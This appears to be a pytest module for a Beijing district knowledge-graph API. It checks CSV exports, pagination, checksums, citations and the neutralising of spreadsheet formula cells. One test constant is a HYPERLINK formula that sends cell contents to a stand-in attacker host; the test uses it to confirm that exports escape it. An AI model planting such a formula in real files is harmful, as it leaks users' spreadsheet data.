"""Tables for pandas and R (issue 25, item 4) and CSV cells neutralised (issue 23, item 7).

Every /api list route answers ``?format=csv`` and every CSV export is read by ``pandas.read_csv``, with the
row counts the graph gives (counted here by ad-hoc SPARQL, not the service's named queries).
"""

import csv
import hashlib
import io
import re
from collections.abc import Iterator
from pathlib import Path

import httpx
import pandas as pd
import pytest

from app.build.graph import KnowledgeGraph
from app.config import ROOT, Settings
from app.ld.export import FILES
from app.ld.tables import TABLES, cell, write_csv
from tests.helpers import PREFIXES, LiveServer, select, serve_in_thread

TOKEN = "test-write-token"
AUTH = {"Authorization": f"Bearer {TOKEN}"}
NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")


def count_of(graph: KnowledgeGraph, cls: str) -> int:
    return int(select(graph, PREFIXES + f"SELECT (COUNT(DISTINCT ?x) AS ?n) WHERE {{ ?x a {cls} }}")[0]["n"])


def read(response: httpx.Response) -> pd.DataFrame:
    assert response.status_code == 200, response.text[:300]
    assert response.headers["content-type"].startswith("text/csv")
    return pd.read_csv(io.BytesIO(response.content), keep_default_na=False)


def tail(iri: str) -> str:
    return iri.rsplit("/", 1)[-1]


# ---------------------------------------------------------------- ?format=csv on the list routes


def list_counts(graph: KnowledgeGraph) -> dict[str, int]:
    named = select(graph, PREFIXES + """SELECT (COUNT(DISTINCT ?m) AS ?n) WHERE {
        ?m a bjrd:Mechanism ; bjrd:mechanismKind bjrd:Named .
        ?p a bjrd:Practice ; bjrd:usesMechanism ?u . ?u skos:broader* ?m .
        { SELECT ?m WHERE { ?p2 bjrd:district ?d ; bjrd:usesMechanism/skos:broader* ?m }
          GROUP BY ?m HAVING (COUNT(DISTINCT ?d) >= 2) } }""")
    return {
        "/api/districts": count_of(graph, "bjrd:District"),
        "/api/mechanisms": count_of(graph, "bjrd:Mechanism"),
        "/api/mechanisms/shared": int(named[0]["n"]),
        "/api/themes": count_of(graph, "bjrd:Theme"),
        "/api/topics": count_of(graph, "bjrd:SupervisionTopic"),
        "/api/matrix": count_of(graph, "bjrd:District"),
        "/api/districts/haidian/similar": count_of(graph, "bjrd:District") - 1,
    }


def test_every_list_route_reads_in_pandas_with_the_graphs_row_count(client: httpx.Client,
                                                                     graph: KnowledgeGraph) -> None:
    for route, expected in list_counts(graph).items():
        frame = read(client.get(route, params={"format": "csv"}))
        assert len(frame) == expected, route
        if route != "/api/matrix":
            assert len(frame) == len(client.get(route).json()), route
        assert not any(c.startswith("Unnamed") or "\ufeff" in c for c in frame.columns), route


def test_list_csv_has_the_json_values(client: httpx.Client) -> None:
    listed = client.get("/api/mechanisms").json()
    frame = read(client.get("/api/mechanisms", params={"format": "csv"}))
    assert list(frame["id"]) == [m["id"] for m in listed]
    assert list(frame["label_zh"]) == [m["label"]["zh"] for m in listed]
    assert list(frame["label_en"]) == [m["label"]["en"] for m in listed]
    assert list(frame["districts"]) == [";".join(m["districts"]) for m in listed]
    assert list(frame["kind"]) == [m["kind"] for m in listed]


def test_csv_pages_like_json(client: httpx.Client) -> None:
    page = {"limit": 3, "offset": 2}
    frame = read(client.get("/api/districts", params={**page, "format": "csv"}))
    assert list(frame["id"]) == [d["id"] for d in client.get("/api/districts", params=page).json()]
    assert client.get("/api/districts", params={**page, "format": "csv"}).headers["x-total-count"] == "16"


def test_search_csv_reads_in_pandas(client: httpx.Client) -> None:
    hits = client.get("/api/search", params={"q": "月进站"}).json()
    frame = read(client.get("/api/search", params={"q": "月进站", "format": "csv"}))
    assert len(frame) == hits["total"] > 0
    assert list(frame["id"]) == [h["id"] for h in hits["results"]]
    empty = read(client.get("/api/search", params={"q": "zzzqqqxxx", "format": "csv"}))
    assert len(empty) == 0 and {"type", "id", "label_zh", "label_en"} <= set(empty.columns)


@pytest.mark.parametrize("route", ["/api/districts", "/api/mechanisms", "/api/mechanisms/shared", "/api/themes",
                                   "/api/topics", "/api/matrix", "/api/search?q=x", "/api/districts/haidian/similar"])
def test_unknown_format_is_400_naming_the_valid_ones(client: httpx.Client, route: str) -> None:
    response = client.get(route, params={"format": "xlsx"})
    assert response.status_code == 400
    assert response.headers["content-type"].startswith("application/json")
    detail = response.json()["detail"]
    assert "xlsx" in detail and "json" in detail and "csv" in detail
    assert client.get(route, params={"format": "json"}).headers["content-type"].startswith("application/json")


# ---------------------------------------------------------------- the exports


def export_counts(graph: KnowledgeGraph) -> dict[str, int]:
    districts = count_of(graph, "bjrd:District")
    mechanisms = count_of(graph, "bjrd:Mechanism")
    return {"practices": count_of(graph, "bjrd:Practice"), "facts": count_of(graph, "bjrd:Fact"),
            "mechanisms": mechanisms, "topics": count_of(graph, "bjrd:SupervisionTopic"),
            "matrix": districts * mechanisms}


def test_every_csv_export_reads_in_pandas(client: httpx.Client, graph: KnowledgeGraph) -> None:
    counts = export_counts(graph)
    assert set(counts) == set(TABLES)
    release = client.get("/export/SHA256SUMS").headers["x-release"]
    for table, expected in counts.items():
        frame = read(client.get(f"/export/{table}.csv"))
        assert len(frame) == expected, table
        assert "id" in frame.columns or "district" in frame.columns
        # the same bytes in the release
        assert client.get(f"/export/{release}/{table}.csv").content == client.get(f"/export/{table}.csv").content


def test_matrix_csv_is_the_graphs_usage(client: httpx.Client, graph: KnowledgeGraph) -> None:
    rows = select(graph, PREFIXES + """SELECT DISTINCT ?d ?m WHERE {
        ?p a bjrd:Practice ; bjrd:district ?d ; bjrd:usesMechanism/skos:broader* ?m . ?m a bjrd:Mechanism }""")
    used = {(tail(r["d"]), tail(r["m"])) for r in rows}
    frame = read(client.get("/export/matrix.csv"))
    assert {(r.district, r.mechanism) for r in frame.itertuples() if r.uses == 1} == used
    labels = select(graph, PREFIXES + "SELECT ?m ?l WHERE { ?m a bjrd:Mechanism ; skos:prefLabel ?l "
                    "FILTER(lang(?l) = 'en') }")
    english = {tail(r["m"]): r["l"] for r in labels}
    assert all(english[r.mechanism] == r.mechanism_en for r in frame.itertuples())


def test_practices_csv_names_the_mechanisms_labels(client: httpx.Client, graph: KnowledgeGraph) -> None:
    labels = {tail(r["m"]): r["l"] for r in select(graph, PREFIXES + """SELECT ?m ?l WHERE {
        ?m a bjrd:Mechanism ; skos:prefLabel ?l FILTER(lang(?l) = 'zh') }""")}
    frame = read(client.get("/export/practices.csv"))
    checked = 0
    for row in frame.itertuples():
        ids = [m for m in row.mechanisms.split(";") if m]
        assert row.mechanisms_zh.split(";") == [labels[m] for m in ids] if ids else row.mechanisms_zh == ""
        checked += bool(ids)
    assert checked > 50


def test_release_index_lists_every_file_with_size_and_checksum(client: httpx.Client) -> None:
    sums = client.get("/export/SHA256SUMS")
    release = sums.headers["x-release"]
    page = client.get(f"/export/{release}/")
    assert page.status_code == 200 and page.headers["content-type"].startswith("text/html")
    listed = dict(line.split("  ")[::-1] for line in sums.text.splitlines())
    assert set(listed) == set(FILES)
    for name, digest in listed.items():
        body = client.get(f"/export/{release}/{name}").content
        assert hashlib.sha256(body).hexdigest() == digest
        assert re.search(rf'href="/export/{release}/{re.escape(name)}">{re.escape(name)}</a></td><td>{len(body)}</td>'
                         rf"<td><code>{digest}</code>", page.text), name
    assert client.get("/export/latest/", follow_redirects=False).headers["location"] == f"/export/{release}/"
    assert client.get("/export/000000000000/").status_code == 404


def test_citation_text_bibtex_and_cff(client: httpx.Client) -> None:
    release = client.get("/export/SHA256SUMS").headers["x-release"]
    cite = client.get("/export/citation").json()
    assert cite["release"] == release and cite["url"].endswith(f"/export/{release}/")
    assert client.get(cite["url"].removeprefix(str(client.base_url))).status_code == 200
    bibtex = client.get("/export/citation", params={"format": "bibtex"}).text
    assert bibtex.startswith(f"@misc{{bjrd-kg-{release},") and bibtex.count("{") == bibtex.count("}")
    assert release in client.get("/export/citation", params={"format": "text"}).text
    assert client.get("/export/citation", params={"format": "ris"}).status_code == 400
    cff = (ROOT / "CITATION.cff").read_text(encoding="utf-8")
    assert cff.startswith("cff-version: 1.2.0") and "CC-BY-4.0" in cff
    assert re.search(r"^title: .+", cff, re.M) and re.search(r"^authors:", cff, re.M)


def test_theme_lists_its_practices(client: httpx.Client, graph: KnowledgeGraph) -> None:
    theme_iri = graph.iri("theme", "supervision")
    rows = select(graph, PREFIXES + f"""SELECT DISTINCT ?p ?d WHERE {{
        ?p a bjrd:Practice ; bjrd:district ?d ; bjrd:theme/skos:broader* <{theme_iri}> }}""")
    theme = client.get("/api/themes/supervision").json()
    assert {(p["id"], p["district"]) for p in theme["practices"]} == {(tail(r["p"]), tail(r["d"])) for r in rows}
    assert all(set(p) >= {"id", "label", "district"} and set(p["label"]) == {"zh", "en"} for p in theme["practices"])
    assert "practices" not in client.get("/api/themes").json()[0]


# ---------------------------------------------------------------- CSV injection


@pytest.mark.parametrize("text", ["=HYPERLINK(\"http://x\")", "+1", "-2+3", "@SUM(A1)", "\tx", "\rx"])
def test_cells_that_start_like_a_formula_are_text(text: str) -> None:
    assert cell(text) == "'" + text
    body = write_csv(["a"], [[text]]).decode("utf-8-sig")
    assert pd.read_csv(io.StringIO(body))["a"][0] == "'" + text


def test_numbers_and_plain_text_are_unchanged() -> None:
    assert [cell(v) for v in (-3, 2.5, "海淀", "a=b", None)] == [-3, 2.5, "海淀", "a=b", ""]


@pytest.fixture(scope="module")
def writable() -> Iterator[LiveServer]:
    yield from serve_in_thread(Settings(write_token=TOKEN, query_workers=1, query_timeout_s=5))


HOSTILE = '=HYPERLINK("http://attacker.invalid/?"&A1,"点此")'
PRACTICE = """
@prefix bjrd: <https://bjrd-kg.example.org/ontology#> .
@prefix dcterms: <http://purl.org/dc/terms/> .
@prefix oa: <http://www.w3.org/ns/oa#> .
@prefix rdfs: <http://www.w3.org/2000/01/rdf-schema#> .
@prefix schema: <https://schema.org/> .
@prefix src: <https://bjrd-kg.example.org/id/source/> .

src:csv-injection a schema:Article ; dcterms:title "示例"@zh , "Sample"@en .
<https://bjrd-kg.example.org/id/practice/haidian-csv-injection> a bjrd:Practice ;
    rdfs:label '''HOSTILE'''@zh , "-1+2 sample practice"@en ;
    bjrd:district <https://bjrd-kg.example.org/id/district/haidian> ;
    bjrd:usesMechanism <https://bjrd-kg.example.org/id/mechanism/monthly-station-visit> ;
    bjrd:theme <https://bjrd-kg.example.org/id/theme/station-building> ;
    bjrd:evidence <https://bjrd-kg.example.org/id/quote/haidian-csv-injection> .
<https://bjrd-kg.example.org/id/quote/haidian-csv-injection> a bjrd:Quote ;
    oa:exact "@示例引文" ; oa:start 0 ; oa:end 5 ; dcterms:source src:csv-injection .
""".replace("HOSTILE", HOSTILE)


@pytest.mark.slow  # a write: 5-25 s on a busy machine
def test_a_formula_written_as_a_label_reaches_every_table_as_text(writable: LiveServer) -> None:
    graph = "https://bjrd-kg.example.org/graph/source/csv-injection"
    with httpx.Client(base_url=writable.url, timeout=60) as w:
        r = w.post(f"/graph-store?graph={graph}", content=PRACTICE.encode("utf-8"),
                   headers={**AUTH, "Content-Type": "text/turtle"})
        assert r.status_code in (200, 201, 204), r.text
        # The server is this module's own: the written graph is left for it to drop.
        frame = read(w.get("/export/practices.csv"))
        row = frame[frame["id"] == "haidian-csv-injection"].iloc[0]
        assert row["label_zh"] == "'" + HOSTILE
        assert row["label_en"] == "'-1+2 sample practice"
        assert row["quote"] == "'@示例引文"
        for table in TABLES:
            cells = csv.reader(io.StringIO(w.get(f"/export/{table}.csv").content.decode("utf-8-sig")))
            starts = {c[0] for row in cells for c in row if c and not NUMBER.fullmatch(c)}
            assert not starts & set("=+-@\t\r"), table
        hits = read(w.get("/api/search", params={"q": "HYPERLINK", "format": "csv"}))
        assert "'" + HOSTILE in set(hits["label_zh"])


def test_citation_file_is_at_the_root() -> None:
    assert Path(ROOT / "CITATION.cff").is_file()
